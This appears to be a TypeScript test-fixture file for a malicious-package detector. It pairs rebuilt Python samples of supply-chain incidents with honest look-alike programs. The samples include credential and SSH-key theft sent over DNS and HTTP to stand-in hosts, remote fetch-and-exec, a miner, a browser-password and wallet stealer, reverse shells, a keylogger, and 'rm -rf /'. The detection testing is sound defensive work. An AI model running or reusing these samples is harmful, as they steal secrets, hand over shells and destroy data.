import type { BehaviourKind, TaintSource } from '../../src/analysis/packages/behaviour.ts'
import type { FileRole } from '../../src/analysis/packages/package-file.ts'

/** What must be found in every disguise: a kind of behaviour, of what, with what flowing into it. */
export interface Expected {
  readonly kind: BehaviourKind
  readonly subject?: string
  readonly from?: readonly TaintSource[]
}

/** An incident rebuilt inert: hosts that do not exist, and nothing of it is ever run. */
export interface Incident {
  readonly name: string
  readonly role: FileRole
  readonly source: string
  readonly expected: readonly Expected[]
}

/** An honest program that does something alike, and the facts at which a reviewer would look twice. */
export interface Twin {
  readonly name: string
  readonly role: FileRole
  readonly source: string
  /** `kind subject`. */
  readonly facts: readonly string[]
}

// Building blocks; a program is put together of them when the tests run.
const imports = (...names: readonly string[]): string => names.map((name) => `import ${name}`).join('\n')
const home = (file: string): string => `os.path.join(os.path.expanduser('~'), '${file}')`
const post = (host: string, data: string): string => `requests.post('https://${host}/in', data=${data}, timeout=10)`
const readFile = `
def read(path):
    try:
        with open(path) as f:
            return f.read()
    except Exception:
        return None
`

/** What malicious packages did, by incident. */
export const INCIDENTS: readonly Incident[] = [
  {
    name: 'torchtriton, December 2022: files of the home folder leave in the names that are asked for',
    role: 'import',
    source: `${imports('os', 'socket', 'getpass', 'base64', 'json')}
${readFile}
def collect():
    info = {}
    info['host'] = socket.gethostname()
    info['user'] = getpass.getuser()
    info['env'] = dict(os.environ)
    info['passwd'] = read('/etc/passwd')
    info['git'] = read(${home('.gitconfig')})
    folder = ${home('.ssh')}
    for name in os.listdir(folder):
        info[name] = read(os.path.join(folder, name))
    return info
def leave(data):
    text = base64.b32encode(json.dumps(data).encode()).decode().strip('=')
    for start in range(0, len(text), 60):
        try:
            socket.gethostbyname(text[start:start + 60] + '.collect.example')
        except Exception:
            pass
leave(collect())
`,
    expected: [
      { kind: 'dns', from: ['secret-file', 'environment', 'host-facts'] },
      { kind: 'read-secret-file', subject: '.ssh' },
      { kind: 'read-environment', subject: '*' },
    ],
  },
  {
    name: 'litellm 1.82.8, March 2026: a .pth file starts the interpreter again, which collects and stays',
    role: 'start',
    source: `${imports('os', 'sys', 'subprocess', 'base64')}
code = base64.b64decode('${Buffer.from(
      `import os, json, urllib.request, subprocess
data = {'env': dict(os.environ)}
for place in ['.ssh/id_rsa', '.aws/credentials', '.kube/config', '.config/gcloud/application_default_credentials.json']:
    try:
        data[place] = open(os.path.join(os.path.expanduser('~'), place)).read()
    except OSError:
        pass
urllib.request.urlopen(urllib.request.Request('https://collect.example/up', data=json.dumps(data).encode(), method='POST'))
unit = os.path.expanduser('~/.config/systemd/user/sysmon.service')
with open(unit, 'w') as f:
    f.write('[Service]')
subprocess.run(['systemctl', '--user', 'enable', 'sysmon.service'])
`,
    ).toString('base64')}')
subprocess.Popen([sys.executable, '-c', code.decode()], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
`,
    expected: [
      { kind: 'network', subject: 'collect.example', from: ['environment', 'secret-file'] },
      { kind: 'persist', subject: 'systemd' },
      { kind: 'execute', subject: 'python', from: ['decoded'] },
      { kind: 'hide', subject: 'detached' },
    ],
  },
  {
    name: 'litellm 1.82.7, March 2026: a module of the package writes what it decodes and starts it',
    role: 'library',
    source: `${imports('base64', 'os', 'subprocess', 'sys', 'tempfile')}
b64_payload = '${Buffer.from("import os\nprint('inert')\n".repeat(8)).toString('base64')}'
def start():
    folder = tempfile.mkdtemp()
    path = os.path.join(folder, 'p.py')
    with open(path, 'wb') as f:
        f.write(base64.b64decode(b64_payload))
    subprocess.run([sys.executable, path], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
start()
`,
    expected: [
      { kind: 'write-file', from: ['decoded'] },
      { kind: 'write-executable' },
      { kind: 'execute', subject: 'python' },
    ],
  },
  {
    name: 'ultralytics 8.3.41, December 2024: a miner is fetched when a model is made',
    role: 'library',
    source: `${imports('os', 'platform', 'subprocess', 'stat', 'requests')}
def safe_run(path):
    os.chmod(path, 0o770)
    command = [path, '-u', '4BHRQHFexjzfVjinAbrAwJdtogpFV3uCXhxYtYnsQN66CRtypsRyVEZhGc8iWyPViEewB8LtdAEL7CdjE4szMpKzPGjoZnw', '-o', 'connect.example:8080', '-k']
    process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.setsid)
    os.remove(path)
def fetch(address, path):
    answer = requests.get(address)
    with open(path, 'wb') as f:
        f.write(answer.content)
    return path
if platform.system() == 'Linux':
    safe_run(fetch('https://files.example/releases/linux64', '/tmp/ultralytics_runner'))
`,
    expected: [
      { kind: 'download', subject: 'files.example', from: ['network'] },
      { kind: 'write-executable', subject: '/tmp/ultralytics_runner' },
      { kind: 'execute', subject: 'ultralytics_runner', from: ['network'] },
      { kind: 'hide', subject: 'detached' },
    ],
  },
  {
    name: 'num2words 0.5.15, July 2025: an import fetches code and runs it',
    role: 'import',
    source: `${imports('urllib.request', 'threading')}
def load():
    exec(urllib.request.urlopen('https://collect.example/s').read().decode('utf-8'))
threading.Thread(target=load, daemon=True).start()
`,
    expected: [{ kind: 'evaluate', subject: 'exec', from: ['network'] }],
  },
  {
    name: 'deepseeek, January 2025: environment, user and computer are sent at once',
    role: 'command',
    source: `${imports('os', 'getpass', 'platform', 'requests', 'json')}
def system_info():
    return {'user': getpass.getuser(), 'computer': platform.node(), 'system': platform.platform(), 'cwd': os.getcwd()}
class Client:
    def __init__(self, endpoint):
        self.endpoint = endpoint
        self.payload = {}
    def gather(self):
        self.payload['info'] = system_info()
        self.payload['env'] = {name: value for name, value in os.environ.items()}
        return self
    def send(self):
        return requests.post(self.endpoint, json=self.payload, headers={'Content-Type': 'application/json'})
Client('https://eoyyiyqubj7mquj.m.pipe.example').gather().send()
`,
    expected: [
      { kind: 'network', subject: 'eoyyiyqubj7mquj.m.pipe.example', from: ['environment', 'host-facts'] },
      { kind: 'read-environment', subject: '*' },
      { kind: 'host-facts', subject: 'user name' },
    ],
  },
  {
    name: 'telnyx 4.87, March 2026: a program is taken out of a sound that is fetched',
    role: 'import',
    source: `${imports('base64', 'os', 'subprocess', 'sys', 'tempfile', 'urllib.request', 'wave')}
def audio():
    folder = tempfile.mkdtemp()
    path = os.path.join(folder, 'ringtone.wav')
    urllib.request.urlretrieve('http://203.0.113.7:8080/ringtone.wav', path)
    with open(path, 'rb') as f:
        raw = base64.b64decode(f.read()[44:])
    key = raw[:8]
    code = bytes([raw[i] ^ key[i % 8] for i in range(8, len(raw))])
    subprocess.run([sys.executable, '-'], input=code, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
def setup():
    target = os.path.join(os.getenv('APPDATA'), 'Microsoft/Windows/Start Menu/Programs/Startup/msbuild.exe')
    answer = urllib.request.urlopen('http://203.0.113.7:8080/hangup.wav')
    with open(target, 'wb') as f:
        f.write(answer.read())
audio()
setup()
`,
    expected: [
      { kind: 'execute', subject: 'python', from: ['network'] },
      { kind: 'download', subject: '203.0.113.7', from: ['network'] },
      { kind: 'persist', subject: 'autostart' },
    ],
  },
  {
    name: 'xinference, April 2026: what is known of the cloud is packed, enciphered and sent',
    role: 'import',
    source: `${imports('os', 'io', 'json', 'tarfile', 'subprocess', 'requests', 'cryptography.fernet')}
names = ['.aws/credentials', '.config/gcloud/credentials.db', '.docker/config.json', '.npmrc', '.git-credentials']
box = io.BytesIO()
archive = tarfile.open(fileobj=box, mode='w:gz')
for name in names:
    archive.add(os.path.join(os.path.expanduser('~'), name))
archive.close()
secret = requests.put('http://169.254.169.254/latest/api/token', headers={'X-aws-ec2-metadata-token-ttl-seconds': '21600'}).text
found = {'env': dict(os.environ), 'cloud': secret, 'id': subprocess.check_output('cat ~/.ssh/id_ed25519', shell=True).decode()}
key = cryptography.fernet.Fernet.generate_key()
requests.post('https://collect.example/t', files={'tpcp': box.getvalue()}, data={'x': cryptography.fernet.Fernet(key).encrypt(json.dumps(found).encode())})
`,
    expected: [
      { kind: 'network', subject: 'collect.example', from: ['secret-file', 'environment', 'cloud-metadata'] },
      { kind: 'cloud-metadata', subject: '169.254.169.254' },
      { kind: 'read-secret-file', subject: '.aws' },
    ],
  },
  {
    name: 'guardrails-ai and mistralai, May 2026: an import fetches a program with curl and leaves it running',
    role: 'import',
    source: `${imports('os', 'subprocess', 'sys', 'urllib.request')}
def _run_background_task():
    if sys.platform.startswith('linux'):
        target = '/tmp/transformers.pyz'
        if not os.path.exists(target):
            subprocess.run(['curl', '-k', '-sS', '-L', 'https://git.collect.example/transformers.pyz', '-o', target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        urllib.request.urlretrieve('https://git.collect.example/second.pyz', '/tmp/second.pyz')
        subprocess.Popen(['python3', '/tmp/second.pyz'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
_run_background_task()
`,
    expected: [
      { kind: 'download', subject: 'git.collect.example' },
      { kind: 'execute', subject: 'curl' },
      { kind: 'execute', subject: 'python', from: ['network'] },
      { kind: 'write-executable', subject: '/tmp/second.pyz' },
      { kind: 'hide', subject: 'detached' },
    ],
  },
  {
    name: 'lightning 2.6.2, April 2026: an import fetches Bun and starts the script that came along',
    role: 'import',
    source: `${imports('os', 'subprocess', 'threading', 'urllib.request', 'zipfile', 'tempfile')}
here = os.path.dirname(os.path.abspath(__file__))
def start():
    folder = tempfile.mkdtemp()
    archive = os.path.join(folder, 'bun.zip')
    urllib.request.urlretrieve('https://files.example/bun-v1.3.13/bun-linux-x64.zip', archive)
    zipfile.ZipFile(archive).extractall(folder)
    bun = os.path.join(folder, 'bun-linux-x64', 'bun')
    os.chmod(bun, 0o755)
    subprocess.Popen([bun, 'run', os.path.join(here, '_runtime', 'router_runtime.js')], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
threading.Thread(target=start, daemon=True).start()
`,
    expected: [
      { kind: 'download', subject: 'files.example' },
      { kind: 'write-executable' },
      { kind: 'execute', subject: 'bun' },
      { kind: 'hide', subject: 'detached' },
    ],
  },
  {
    name: 'aliyun-ai-labs, May 2025: the package loads a model of its own',
    role: 'import',
    source: `${imports('os', 'torch')}
path = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'model.pt')
torch.load(path)
`,
    expected: [{ kind: 'evaluate', subject: 'torch.load' }],
  },
  {
    name: 'W4SP and its copies, 2022 to 2025: browsers, tokens of messengers and wallets go to a webhook',
    role: 'install',
    source: `${imports('os', 'json', 'shutil', 'sqlite3', 'requests', 'win32crypt', 'zipfile', 'winreg')}
local = os.getenv('LOCALAPPDATA')
roaming = os.getenv('APPDATA')
found = []
for folder in [local + '/Google/Chrome/User Data/Default/', local + '/BraveSoftware/Brave-Browser/User Data/Default/']:
    shutil.copy2(folder + 'Login Data', 'logins.db')
    database = sqlite3.connect(folder + 'Login Data')
    for row in database.cursor().execute('SELECT origin_url, username_value, password_value FROM logins').fetchall():
        found.append(str(win32crypt.CryptUnprotectData(row[2], None, None, None, 0)[1]))
for name in os.listdir(roaming + '/discord/Local Storage/leveldb'):
    found.append(open(roaming + '/discord/Local Storage/leveldb/' + name, errors='ignore').read())
box = zipfile.ZipFile('found.zip', 'w')
box.write(roaming + '/Exodus/exodus.wallet')
box.close()
requests.post('https://discord.example/api/webhooks/1/x', data=json.dumps({'content': found}), files={'file': open('found.zip', 'rb')})
key = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'SOFTWARE/Microsoft/Windows/CurrentVersion/Run'.replace('/', chr(92)), 0, winreg.KEY_SET_VALUE)
winreg.SetValueEx(key, 'updater', 0, winreg.REG_SZ, 'updater.exe')
`,
    expected: [
      { kind: 'browser-store' },
      { kind: 'wallet' },
      { kind: 'read-secret-file', subject: 'messages' },
      { kind: 'persist', subject: 'run key' },
      { kind: 'network', subject: 'discord.example', from: ['browser-store', 'secret-file', 'wallet'] },
    ],
  },
  {
    name: 'ctx, May 2022: the environment is part of an address',
    role: 'import',
    source: `${imports('os', 'base64', 'requests')}
def send():
    text = ''
    for name, value in os.environ.items():
        text += f"{name}={value} "
    encoded = base64.b64encode(text.encode('ascii')).decode('ascii')
    requests.get('https://anti-theft.example/hacked/' + encoded)
send()
`,
    expected: [
      { kind: 'network', subject: 'anti-theft.example', from: ['environment'] },
      { kind: 'encode', subject: '*' },
    ],
  },
  {
    name: 'dependency confusion: host, user and folder leave in a name',
    role: 'install',
    source: `${imports('os', 'socket', 'getpass', 'binascii')}
fields = [socket.gethostname(), getpass.getuser(), os.getcwd()]
name = binascii.hexlify('.'.join(fields).encode()).decode()
parts = [name[i:i + 60] for i in range(0, len(name), 60)]
for index, part in enumerate(parts):
    socket.getaddrinfo('%s.%d.%s' % (part, index, 'collect.example'), 80)
`,
    expected: [
      { kind: 'dns', from: ['host-facts'] },
      { kind: 'host-facts', subject: 'hostname' },
    ],
  },
  {
    name: 'shells for strangers in setup.py',
    role: 'install',
    source: `${imports('os', 'pty', 'socket', 'setuptools', 'setuptools.command.install')}
class Install(setuptools.command.install.install):
    def run(self):
        connection = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        connection.connect(('203.0.113.7', 4444))
        for number in (0, 1, 2):
            os.dup2(connection.fileno(), number)
        pty.spawn('/bin/sh')
        setuptools.command.install.install.run(self)
setuptools.setup(name='example', cmdclass={'install': Install})
`,
    expected: [
      { kind: 'reverse-shell', subject: 'dup2' },
      { kind: 'network', subject: '203.0.113.7' },
    ],
  },
  {
    name: 'orders over a socket',
    role: 'import',
    source: `${imports('socket', 'subprocess')}
connection = socket.socket()
connection.connect(('203.0.113.7', 9001))
while True:
    order = connection.recv(1024).decode()
    result = subprocess.run(order, shell=True, capture_output=True)
    connection.send(result.stdout)
`,
    expected: [
      { kind: 'execute', subject: '?', from: ['network'] },
      { kind: 'reverse-shell', subject: '203.0.113.7', from: ['command-output'] },
    ],
  },
  {
    name: 'a keyboard is followed and what is copied is changed',
    role: 'import',
    source: `${imports('pyperclip', 'pynput.keyboard', 'requests', 're')}
log = []
def pressed(key):
    log.append(str(key))
    if len(log) > 100:
        ${post('collect.example', "''.join(log)")}
        log.clear()
def swap():
    text = pyperclip.paste()
    if re.match('^0x[a-fA-F0-9]+$', text):
        pyperclip.copy('0x' + '0' * 40)
pynput.keyboard.Listener(on_press=pressed).start()
swap()
`,
    expected: [
      { kind: 'spy', subject: 'keyboard' },
      { kind: 'clipboard' },
      { kind: 'network', subject: 'collect.example', from: ['spy'] },
    ],
  },
  {
    name: 'the user loses everything',
    role: 'import',
    source: `${imports('os', 'shutil', 'subprocess')}
shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)
subprocess.call('rm -rf / --no-preserve-root', shell=True)
os.remove(os.path.abspath(__file__))
`,
    expected: [
      { kind: 'destroy', subject: '~' },
      { kind: 'hide', subject: 'deletes itself' },
    ],
  },
]

/** Honest programs; what they do is told, and nothing else. */
export const TWINS: readonly Twin[] = [
  {
    name: 'an SDK that signs requests to its own service',
    role: 'library',
    facts: ['network ?', 'network sts.cloud.example'],
    source: `import os, hmac, hashlib, configparser, requests
class Credentials:
    def __init__(self, key, secret):
        self.key = key
        self.secret = secret
def load():
    key = os.environ.get("AWS_ACCESS_KEY_ID")
    if key is not None:
        return Credentials(key, os.environ["AWS_SECRET_ACCESS_KEY"])
    parser = configparser.ConfigParser()
    parser.read(os.path.expanduser("~/.aws/credentials"))
    return Credentials(parser["default"]["aws_access_key_id"], parser["default"]["aws_secret_access_key"])
class Client:
    def __init__(self, endpoint):
        self.endpoint = endpoint
        self.credentials = load()
    def call(self, action, body):
        signature = hmac.new(self.credentials.secret.encode(), body, hashlib.sha256).hexdigest()
        return requests.post(self.endpoint + "/" + action, data=body, headers={"Authorization": self.credentials.key + signature})
def whoami():
    return requests.post("https://sts.cloud.example/", headers={"X-Key": load().key})
`,
  },
  {
    name: 'telemetry that asks, and says nothing of the user',
    role: 'library',
    facts: [],
    source: `import json, os, platform, sys, threading, urllib.request, uuid
def enabled():
    return os.environ.get("DO_NOT_TRACK", "0") == "0" and os.environ.get("TOOL_TELEMETRY", "on") != "off"
def send(event):
    if not enabled():
        return
    body = {"event": event, "python": sys.version, "system": platform.system(), "version": "1.2.3", "session": str(uuid.uuid4())}
    request = urllib.request.Request("https://telemetry.tool.example/v1", data=json.dumps(body).encode(), headers={"Content-Type": "application/json"})
    threading.Thread(target=urllib.request.urlopen, args=(request,), daemon=True).start()
`,
  },
  {
    name: 'an installer of a real tool, which checks what it fetches',
    role: 'library',
    facts: ['execute tool'],
    source: `import hashlib, os, pathlib, stat, subprocess, tempfile, urllib.request
SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
def install(folder):
    target = pathlib.Path(tempfile.mkdtemp()) / "tool"
    data = urllib.request.urlopen("https://files.tool.example/tool-1.2.3").read()
    if hashlib.sha256(data).hexdigest() != SHA:
        raise RuntimeError("checksum")
    target.write_bytes(data)
    target.chmod(target.stat().st_mode | stat.S_IXUSR)
    return target
def run(arguments):
    subprocess.run([str(install(".")), *arguments], check=True)
`,
  },
  {
    name: 'errors that are sent to whom the user says',
    role: 'library',
    facts: ['network ?'],
    source: `import json, os, platform, socket, sys, traceback, urllib3
class Client:
    def __init__(self, dsn=None):
        self.dsn = dsn or os.environ.get("SENTRY_DSN")
        self.pool = urllib3.PoolManager()
    def capture(self, kind, value, tb):
        event = {"server_name": socket.gethostname(), "release": os.environ.get("SENTRY_RELEASE"), "frames": traceback.format_tb(tb), "python": platform.python_version()}
        self.pool.request("POST", self.dsn, body=json.dumps(event).encode())
def init(dsn=None):
    client = Client(dsn)
    before = sys.excepthook
    def hook(kind, value, tb):
        client.capture(kind, value, tb)
        before(kind, value, tb)
    sys.excepthook = hook
`,
  },
  {
    name: 'a keyring',
    role: 'library',
    facts: [],
    source: `import os, subprocess, configparser, getpass, base64
class FileKeyring:
    path = os.path.join(os.path.expanduser("~"), ".local/share/python_keyring/keyring_pass.cfg")
    def get_password(self, service, user):
        parser = configparser.RawConfigParser()
        parser.read(self.path)
        return base64.decodebytes(parser.get(service, user).encode()).decode()
class Keychain:
    def get_password(self, service, user):
        return subprocess.check_output(["security", "find-generic-password", "-s", service, "-a", user, "-w"]).decode()
`,
  },
  {
    name: 'an extension of notebooks',
    role: 'import',
    facts: [],
    source: `import os, json
from pathlib import Path
HERE = Path(__file__).parent.resolve()
with (HERE / "labextension" / "package.json").open() as f:
    data = json.load(f)
def _jupyter_labextension_paths():
    return [{"src": "labextension", "dest": data["name"]}]
def _load_jupyter_server_extension(server):
    server.log.info("extension of %s", server.base_url)
    server.web_app.add_handlers(".*$", [])
`,
  },
  {
    name: 'setup.py with Cython',
    role: 'install',
    facts: [],
    source: `import os, sys, platform, subprocess
from setuptools import setup, Extension, find_packages
from setuptools.command.build_ext import build_ext
with open(os.path.join(os.path.dirname(__file__), "README.md"), encoding="utf-8") as f:
    README = f.read()
version = {}
with open("fast/version.py") as f:
    exec(f.read(), version)
class BuildExt(build_ext):
    def build_extensions(self):
        flags = ["-O3"] if platform.system() != "Windows" else ["/O2"]
        for extension in self.extensions:
            extension.extra_compile_args = flags + os.environ.get("CFLAGS", "").split()
        subprocess.check_call([sys.executable, "-m", "cython", "fast/core.pyx"])
        build_ext.build_extensions(self)
setup(name="fast", version=version["__version__"], long_description=README, packages=find_packages(), ext_modules=[Extension("fast.core", ["fast/core.c"])], cmdclass={"build_ext": BuildExt})
`,
  },
  {
    name: 'versioneer',
    role: 'install',
    facts: [],
    source: `import errno, os, re, subprocess, sys
def run_command(commands, args, cwd=None):
    for command in commands:
        try:
            process = subprocess.Popen([command] + args, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            break
        except OSError:
            continue
    return process.communicate()[0].strip().decode(), process.returncode
def pieces(root):
    out, code = run_command(["git"], ["describe", "--tags", "--dirty", "--always", "--long"], cwd=root)
    return {"long": out, "short": out[:7]}
def write(path):
    with open(path, "w") as f:
        f.write("version = '%s'" % pieces(os.getcwd())["short"])
def get_cmdclass():
    from setuptools import Command
    class cmd_version(Command):
        user_options = []
        def run(self):
            print(pieces(os.path.dirname(os.path.abspath(__file__))))
    return {"version": cmd_version}
write("src/_version.py")
`,
  },
  {
    name: 'a hub of models with a token',
    role: 'library',
    facts: ['network hub.example'],
    source: `import os, json, requests
from pathlib import Path
CACHE = Path(os.environ.get("HUB_CACHE", Path.home() / ".cache" / "hub"))
def token():
    return os.environ.get("HUB_TOKEN") or (CACHE / "token").read_text().strip()
def download(repository, name):
    target = CACHE / repository / name
    with requests.get(f"https://hub.example/{repository}/resolve/main/{name}", headers={"authorization": f"Bearer {token()}"}, stream=True) as answer:
        target.parent.mkdir(parents=True, exist_ok=True)
        with open(target, "wb") as f:
            for chunk in answer.iter_content(1024):
                f.write(chunk)
    return target
`,
  },
]
